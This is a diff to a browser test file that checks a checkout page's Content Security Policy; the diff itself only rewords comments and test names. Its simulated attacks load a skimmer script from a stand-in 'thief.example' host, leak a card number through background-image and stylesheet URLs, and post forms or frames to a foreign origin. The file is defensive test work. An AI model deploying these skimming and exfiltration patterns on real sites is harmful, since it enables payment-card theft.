@@ -12,20 +12,20 @@ import { type CheckoutPage, openCheckout } from '../support/browser/checkout-pag
 
 const thief = 'https://thief.example'
 
-/** What the page does to the world when an attacker has got this far: a script that runs inside it. */
+/** An attack by a script inside the page. */
 interface Attack {
   readonly directive: string
-  /** Runs in the page, with the address of the thief. */
+  /** Runs in the page. `thief` is the attacker's origin. */
   readonly run: (thief: string) => unknown
 }
 
-/** Lets the attacks happen, and answers with the directive that stopped each. */
+/** Runs the attacks. Returns the directive that stopped each. */
 async function directivesAgainst(
   checkout: CheckoutPage,
   attacks: Readonly<Record<string, Attack>>,
 ): Promise<Record<string, string>> {
   const { page } = checkout
-  // The browser says it in its own words too; what counts is the event, which names the directive.
+  // The browser logs violations too, but only the event names the directive.
   checkout.expectConsole('error', /Content Security Policy|^The policy of the page/)
   const stoppedBy: Record<string, string> = {}
   for (const [story, attack] of Object.entries(attacks)) {
@@ -90,7 +90,7 @@ const intrusions: Readonly<Record<string, Attack>> = {
       document.body.append(Object.assign(document.createElement('script'), { src }))
     },
   },
-  'a module of a stranger': {
+  'a module of another origin': {
     directive: 'script-src-elem',
     run: (stranger) => {
       const src = `${stranger}/skimmer.js`
@@ -102,7 +102,7 @@ const intrusions: Readonly<Record<string, Attack>> = {
     run: (stranger) =>
       document.head.append(Object.assign(document.createElement('base'), { href: stranger })),
   },
-  'a frame with somebody else’s form': {
+  'a frame with a foreign form': {
     directive: 'frame-src',
     run: (stranger) =>
       document.body.append(Object.assign(document.createElement('iframe'), { src: stranger })),
@@ -111,7 +111,7 @@ const intrusions: Readonly<Record<string, Attack>> = {
     directive: 'worker-src',
     run: () => new Worker(URL.createObjectURL(new Blob(['']))),
   },
-  'a form to a stranger': {
+  'a form to another origin': {
     directive: 'form-action',
     run: (stranger) => {
       const form = Object.assign(document.createElement('form'), { action: stranger })
@@ -141,7 +141,7 @@ const leaks: Readonly<Record<string, Attack>> = {
       document.body.style.backgroundImage = `url(${stranger}/?card=4242)`
     },
   },
-  'a style sheet of a stranger': {
+  'a style sheet of another origin': {
     directive: 'style-src-elem',
     run: (stranger) => {
       const href = `${stranger}/?card=4242`
@@ -197,14 +197,14 @@ test('G1, G16: another site cannot frame a page or its wallet button', async () 
   await expect.poll(() => page.frames()[1]?.url()).toBe('chrome-error://chromewebdata/')
 })
 
-/** A site of somebody else. A real one on this machine: browsers keep pages of the web away from it altogether. */
+/** Serves another origin on this machine, because browsers block web pages from local addresses. */
 async function servePage(html: string): Promise<string> {
   return serve((_request, response) =>
     response.writeHead(200, { 'content-type': 'text/html' }).end(html),
   )
 }
 
-/** Answers requests, and takes every socket. */
+/** Answers requests, and accepts every socket. */
 async function serve(answer: RequestListener): Promise<string> {
   const sockets = new webSocket.Server({ noServer: true })
   const server = createServer(answer).on('upgrade', (request, socket, head) =>
@@ -339,10 +339,10 @@ test('a changed lazy chunk is blocked, too', async () => {
   expect(await isTaken(page)).toBe(false)
 })
 
-/** A CDN, or who has got hold of it, that adds a line to a script. */
+/** Imitates a compromised CDN that adds a line to a script. */
 async function tamperWith(page: Page, address: string): Promise<void> {
   const script = await readFile(join(inject('dist'), address), 'utf8')
-  // With any query: what was lost is asked for again under another address.
+  // With any query, because a retry adds one.
   await page.route(`**${address}*`, (route) =>
     route.fulfill({
       contentType: 'application/javascript',
